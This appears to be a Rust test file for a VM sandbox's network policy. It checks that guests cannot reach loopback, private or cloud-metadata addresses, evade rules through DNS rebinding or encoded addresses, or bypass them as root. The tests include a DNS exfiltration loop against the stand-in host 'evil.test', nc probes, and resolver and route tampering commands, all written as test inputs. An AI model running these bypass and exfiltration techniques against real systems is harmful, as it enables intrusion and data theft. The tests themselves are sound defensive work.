//! Attempts to reach what is not allowed.

use std::{
    collections::VecDeque,
    io,
    net::IpAddr,
    sync::{Arc, Mutex},
};

use vmcell::{
    Vm,
    network::{BoxFuture, HostName, NetworkPolicy, Resolver},
};

use super::{
    FixedResolver, RecordingDialer, WebServer, debian_with, fetch, policy_for, python, shell,
    vm_with,
};
use crate::builder;

/// Starts a VM that may reach a server by its name, and records what is connected to.
async fn start_recorded(server: &WebServer) -> (Vm, RecordingDialer) {
    let dialer = RecordingDialer::to(server.address);
    let vm = vm_with(policy_for(server.port())).dialer(dialer.clone());
    (vm.start().await.unwrap(), dialer)
}

#[tokio::test]
async fn a_name_does_not_lead_to_this_machine_or_its_networks() {
    let server = WebServer::start().await;
    let port = server.port();
    for address in [
        "127.0.0.1",
        "169.254.169.254",
        "10.0.0.1",
        "192.168.1.1",
        "0.0.0.0",
        "::1",
        "::",
        "::ffff:127.0.0.1",
        "64:ff9b::7f00:1",
        "fe80::1",
    ] {
        let dialer = RecordingDialer::to(server.address);
        let vm = builder()
            .network(NetworkPolicy::rules().allow("evil.test").unwrap())
            .resolver(FixedResolver::to(&[address]))
            .dialer(dialer.clone())
            .start()
            .await
            .unwrap();
        let page = fetch(&vm, "evil.test", port).await;
        assert!(!page.is_there, "{address}: {page:?}");
        assert_eq!(page.denials, [format!("evil.test:{port}")]);
        assert_eq!(dialer.dialled(), []);
        vm.kill().await.unwrap();
    }
    assert_eq!(server.clients(), 0);
}

/// Returns another address each time.
#[derive(Debug)]
struct Rebinding(Arc<Mutex<VecDeque<&'static str>>>);

impl Resolver for Rebinding {
    fn resolve<'a>(&'a self, _: &'a HostName) -> BoxFuture<'a, io::Result<Vec<IpAddr>>> {
        let address = self.0.lock().unwrap().pop_front().unwrap();
        Box::pin(async move { Ok(vec![address.parse().unwrap()]) })
    }
}

#[tokio::test]
async fn a_name_that_changes_between_two_look_ups_is_checked_each_time() {
    let server = WebServer::start().await;
    let dialer = RecordingDialer::to(server.address);
    let addresses = Arc::new(Mutex::new(VecDeque::from([
        "1.1.1.1",
        "127.0.0.1",
        "1.0.0.1",
    ])));
    let vm = builder()
        .network(NetworkPolicy::rules().allow("evil.test:80").unwrap())
        .resolver(Rebinding(addresses.clone()))
        .dialer(dialer.clone())
        .start()
        .await
        .unwrap();
    for success in [true, false, true] {
        let page = fetch(&vm, "evil.test", 80).await;
        assert_eq!(page.is_there, success, "{page:?}");
    }
    // Each connection has resolved the name once, and went to what was checked.
    assert!(addresses.lock().unwrap().is_empty());
    let dialled: Vec<_> = dialer.dialled().iter().map(|it| it.0.to_string()).collect();
    assert_eq!(dialled, ["1.1.1.1", "1.0.0.1"]);
    vm.kill().await.unwrap();
}

#[tokio::test]
async fn names_that_are_not_allowed_are_not_resolved() {
    let resolver = FixedResolver::to(&["1.1.1.1"]);
    let vm = builder()
        .network(NetworkPolicy::rules().allow("*.good.test").unwrap())
        .resolver(resolver.clone())
        .start()
        .await
        .unwrap();
    let script = "for i in $(seq 50); do nslookup secret$i.data.evil.test; done >/dev/null 2>&1; \
                  nslookup -type=txt x.evil.test; nslookup good.test; nslookup a.good.test.evil.test; \
                  nslookup agood.test; true";
    let output = shell(&vm, script).await;
    assert!(!output.network_denials.is_empty());
    // A look-up of an allowed name does not resolve it either: only a connection does.
    shell(&vm, "nslookup a.good.test; nslookup A.GOOD.TEST.").await;
    assert_eq!(resolver.asked(), <[String; 0]>::default());
    vm.kill().await.unwrap();
}

#[tokio::test]
async fn an_address_is_not_reached_where_only_names_are_allowed() {
    let server = WebServer::start().await;
    let port = server.port();
    let (vm, dialer) = start_recorded(&server).await;
    for address in [
        "1.1.1.1",
        "2606:4700::1111",
        "169.254.169.254",
        "10.0.0.1",
        "192.168.0.1",
        "64:ff9b::7f00:1",
        // A synthetic address that no name has.
        "198.18.77.77",
        "198.19.255.255",
    ] {
        let page = fetch(&vm, address, port).await;
        assert!(!page.is_there, "{address}: {page:?}");
    }
    // Other ways to write an address of this machine lead to the guest itself.
    for address in ["0x7f.1", "2130706433", "0177.0.0.1", "0.0.0.0"] {
        let page = fetch(&vm, address, port).await;
        assert!(!page.is_there, "{address}: {page:?}");
    }
    assert_eq!(dialer.dialled(), []);
    assert_eq!(server.clients(), 0);
    vm.kill().await.unwrap();
}

#[tokio::test]
async fn the_root_of_a_guest_cannot_get_around_the_policy() {
    let server = WebServer::start().await;
    let port = server.port();
    let (vm, dialer) = start_recorded(&server).await;
    let script = format!(
        "umount /etc/resolv.conf; echo 'nameserver 10.0.0.1' >/etc/resolv.conf; \
         ip route flush table local; ip addr add 10.0.0.1/32 dev lo; \
         ip route add local 0.0.0.0/0 dev lo; ip rule add from all lookup main pref 0; \
         for host in 127.0.0.1 10.0.0.1 1.1.1.1 169.254.169.254 198.18.0.53 198.18.0.1; do \
         printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 5 $host {port}; done; true"
    );
    let output = shell(&vm, &script).await;
    assert!(!output.stdout_text().contains("hello"), "{output:?}");
    assert_eq!(dialer.dialled(), []);
    assert_eq!(server.clients(), 0);
    assert!(vm.health().await.is_healthy());
    vm.kill().await.unwrap();
}

#[tokio::test]
async fn datagrams_are_refused_at_once() {
    let vm = debian_with(NetworkPolicy::public())
        .resolver(FixedResolver::to(&["1.1.1.1"]))
        .start()
        .await
        .unwrap();
    // A program that waits for an answer would wait for ever.
    let program = "import socket\n\
         for host in ('1.1.1.1', '2606:4700::1111', 'any.test'):\n\
         \x20   for family, kind, _, _, address in \\\n\
         \x20           socket.getaddrinfo(host, 443, type=socket.SOCK_DGRAM):\n\
         \x20       client = socket.socket(family, kind)\n\
         \x20       client.connect(address)\n\
         \x20       client.settimeout(100)\n\
         \x20       client.send(b'x')\n\
         \x20       try: client.recv(1)\n\
         \x20       except ConnectionRefusedError: print(host)";
    let output = python(&vm, program, &[]).await;
    let expected = "1.1.1.1\n2606:4700::1111\nany.test\nany.test\n";
    assert_eq!(output.stdout_text(), expected, "{output:?}");
    vm.kill().await.unwrap();
}
